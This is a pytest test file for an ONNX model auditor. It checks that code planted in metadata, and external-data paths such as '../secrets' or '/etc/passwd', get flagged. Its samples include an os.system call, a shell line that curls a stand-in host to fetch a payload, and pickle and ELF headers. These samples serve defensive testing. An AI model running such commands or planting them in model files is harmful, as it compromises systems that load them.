"""Text in a model that is no description."""

from __future__ import annotations

import base64
from pathlib import Path

import onnx
import pytest

from atpatch_onnx.auditing.finding import Finding
from atpatch_onnx.auditing.graph_logic import check_graph

from .graphs import text

CODE = {
    "a call": "__import__('os').system('id')",
    "a shell": "#!/bin/sh\ncurl -s http://203.0.113.5/x",
    "a script": "<script>fetch('/')</script>",
    "a pickle": base64.b64encode(b"\x80\x04\x95" + bytes(90)).decode(),
    "a program": base64.b64encode(b"\x7fELF" + bytes(90)).decode(),
}
ORDINARY = (
    "torch.eval mode; compile(model) was not used",
    '  File "modeling.py", line 7, in forward\n    return self.system(x)',
    base64.b64encode(b"x\x9c" + bytes(range(90))).decode(),
)


def model() -> onnx.ModelProto:
    return text("logits = Identity (scores)")


def said(of: onnx.ModelProto, path: Path | None = None) -> tuple[Finding, ...]:
    return check_graph(of, path).findings


@pytest.mark.parametrize("what", CODE)
def test_code_in_the_metadata_is_found(what: str) -> None:
    planted = model()
    planted.metadata_props.add(key="license", value=CODE[what])
    (found,) = said(planted)
    assert (found.code, found.where) == ("AUD142", "metadata 'license'")


@pytest.mark.parametrize("value", ORDINARY)
def test_descriptions_are_ordinary(value: str) -> None:
    plain = model()
    plain.metadata_props.add(key="notes", value=value)
    assert said(plain) == ()


@pytest.mark.parametrize("location", ["../secrets", "/etc/passwd", "missing"])
def test_external_data_has_to_lie_next_to_the_model(tmp_path: Path, location: str) -> None:
    planted = model()
    tensor = planted.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value=location)
    assert "AUD141" in {one.code for one in said(planted, tmp_path / "model.onnx")}
